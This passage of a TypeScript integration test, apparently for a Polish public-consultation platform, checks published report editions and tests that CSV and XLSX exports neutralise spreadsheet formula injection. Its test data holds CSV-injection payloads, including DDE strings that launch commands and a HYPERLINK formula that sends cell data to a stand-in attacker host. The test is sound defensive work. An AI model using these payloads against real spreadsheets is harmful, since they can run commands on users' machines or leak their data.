        bySubmitterType: [count('resident', 1), count('member_jst', 0), count('partner_organisation', 0), count('other', 0)],
        byChannel: [count('online_form', 1)],
        byChapter: [count('Plan', 1)],
      },
      mainChanges: [{ number: 'U/2026/9001', chapter: 'Plan', part: 'Plan', disposition: 'accepted', proposedWording: 'Nowy zapis.', dispositionJustification: 'Przyjęto.', appliedWording: null }],
      annex: [entry('U/2026/9001', false), entry('U/2026/9002', true)],
    };
    const sha256 = createHash('sha256').update(canonicalJson(v1)).digest('hex');
    await server.db.query(`INSERT INTO consultation_reports (round_id, edition, content, sha256, published_at) VALUES ($1, 1, $2, $3, $4)`, [old, JSON.stringify(v1), sha256, v1.publishedAt]);

    const served = await server.request(`/api/public/rounds/${old}/report`);
    expect(served.status).toBe(200);
    expect(served.body.content).toEqual(v1);
    expect(createHash('sha256').update(canonicalJson(served.body.content)).digest('hex')).toBe(sha256);
    for (const format of ['pdf', 'docx', 'csv', 'xlsx']) {
      const response = await file(`/api/public/rounds/${old}/report.${format}`);
      expect({ format, status: response.status }).toEqual({ format, status: 200 });
    }
    const pdf = (await pdfParse((await file(`/api/public/rounds/${old}/report.pdf`)).body)).text.replace(/\s+/g, ' ');
    expect(pdf).toContain('U/2026/9002');
    expect(pdf).toContain('Nowy zapis.');
    expect(pdf).not.toContain('XQ-');
    // Announced, but it recorded no statutory period or approval: said so, neither made up.
    expect(pdf.match(/nie podano w tym wydaniu sprawozdania/g)).toHaveLength(2);
    expect(pdf).not.toContain('nie zostały jeszcze ogłoszone');
    expect(pdf).not.toContain('nie zostało przyjęte uchwałą');
    expect((await file(`/api/public/rounds/${old}/report.csv`)).body.toString('utf8')).not.toContain('XQ-');
  });

  it('writes no cell that a spreadsheet would run as a formula: staff CSV and XLSX, public CSV and XLSX', async () => {
    const INJECTIONS = ["-2+3+cmd|' /C calc'!A0", '=HYPERLINK("http://evil.example/?x="&A1,"Kliknij")', '@SUM(1+1)*cmd|\' /C calc\'!A0', '＝1+1', '+1+1'];
    const documentId = (await upload(coordinator, 'formuly.md', '# Plan\n\nTekst planu.')).id;
    const versionId = (await server.request(`/api/documents/${documentId}/versions`, { token: coordinator, body: { name: 'v1' } })).body.id;
    const round = (
      await server.request(`/api/workspaces/${ws}/rounds`, {
        token: coordinator,
        body: { documentId, versionId, title: 'Konsultacje planu', audiences: ['public'], channels: ['online_form'], opensAt: new Date(Date.now() - DAY).toISOString() },
      })
    ).body.id as string;
    await server.request(`/api/rounds/${round}/announce`, { token: coordinator, body: {} });
    await server.request(`/api/rounds/${round}/open`, { token: coordinator, body: {} });
    const commentIds: string[] = [];
    for (const [i, text] of INJECTIONS.entries()) {
      const sent = await server.request(`/api/public/rounds/${round}/comments`, {
        body: { part: text, proposedWording: text, justification: text, submitter: { kind: 'institution', name: i === 0 ? text : `Instytucja ${i}`, type: 'other' }, email: `biuro${i}@instytucja.example` },
        headers: { 'x-forwarded-for': `203.0.113.${i + 1}` },
      });
      expect(sent.status).toBe(201);
      commentIds.push(sent.body.id);
    }
    const quoted = INJECTIONS.map((text) => `'${text}`);
    /** The fields of a CSV (RFC 4180), row by row. */
    const parseCsv = (csv: string) => {
      const rows: string[][] = [[]];
      let field = '';
      let inQuotes = false;
      const end = (newRow: boolean) => {
        rows.at(-1)!.push(field);
        field = '';
        if (newRow) rows.push([]);
      };
      for (let i = 0; i < csv.length; i++) {
        const c = csv[i];
        if (inQuotes && c === '"' && csv[i + 1] === '"') {
          field += '"';
          i++;
        } else if (c === '"') {
          inQuotes = !inQuotes;
        } else if (!inQuotes && c === ',') {
          end(false);
        } else if (!inQuotes && c === '\r' && csv[i + 1] === '\n') {
          end(true);
          i++;
        } else {
          field += c;
        }
      }
      return rows.filter((row) => row.length > 1);
    };
    const RUNS = /^[=+\-@\t\r\uFF1D\uFF0B\uFF0D\uFF20]/;
    const checkCsv = (csv: string, where: string) => {
      const cells = parseCsv(csv.replace(/^\uFEFF/, '')).flat();
      expect({ where, running: cells.filter((cell) => RUNS.test(cell)) }).toEqual({ where, running: [] });
      for (const text of quoted) expect({ where, text, found: cells.filter((cell) => cell === text).length >= 3 }).toEqual({ where, text, found: true });
    };
    const checkXlsx = async (body: Buffer, where: string) => {
      const workbook = new Workbook();
      await workbook.xlsx.load(body as unknown as ArrayBuffer);
      const strings: string[] = [];
      const numbers: number[] = [];
      workbook.worksheets.forEach((sheet) =>
        sheet.eachRow((row) =>
          row.eachCell((cell) => {
            if (typeof cell.value === 'string') strings.push(cell.value);
            if (typeof cell.value === 'number') numbers.push(cell.value);
            expect({ where, formula: cell.formula ?? null }).toEqual({ where, formula: null });
          }),
        ),
      );
      expect({ where, running: strings.filter((text) => RUNS.test(text)) }).toEqual({ where, running: [] });
      for (const text of quoted) expect({ where, text, found: strings.filter((cell) => cell === text).length >= 3 }).toEqual({ where, text, found: true });
      // Counts stay numbers: five comments received.
      expect(numbers).toContain(5);
    };

    checkCsv((await file(`/api/rounds/${round}/report.csv`, coordinator)).body.toString('utf8'), 'staff csv');
    await checkXlsx((await file(`/api/rounds/${round}/report.xlsx`, coordinator)).body, 'staff xlsx');

    await server.db.query(`UPDATE consultation_rounds SET closes_at = now() - interval '1 second' WHERE id = $1`, [round]);
    expect((await server.request(`/api/rounds/${round}/close`, { token: coordinator, body: {} })).status).toBe(200);
    for (const id of commentIds) {
      expect((await server.request(`/api/consultation-comments/${id}/disposition`, { method: 'PUT', token: coordinator, body: { disposition: 'explanation', justification: '=1+1 to nie formuła' } })).status).toBe(204);
      expect((await server.request(`/api/consultation-comments/${id}/disposition/approve`, { token: coordinator, body: {} })).status).toBe(204);
    }
    expect((await server.request(`/api/rounds/${round}/report/publish`, { token: coordinator, body: {} })).status).toBe(201);
    const publicCsv = (await file(`/api/public/rounds/${round}/report.csv`)).body.toString('utf8');
    checkCsv(publicCsv, 'public csv');
    expect(publicCsv).toContain(",'=1+1 to nie formuła");
    await checkXlsx((await file(`/api/public/rounds/${round}/report.xlsx`)).body, 'public xlsx');
  });
});
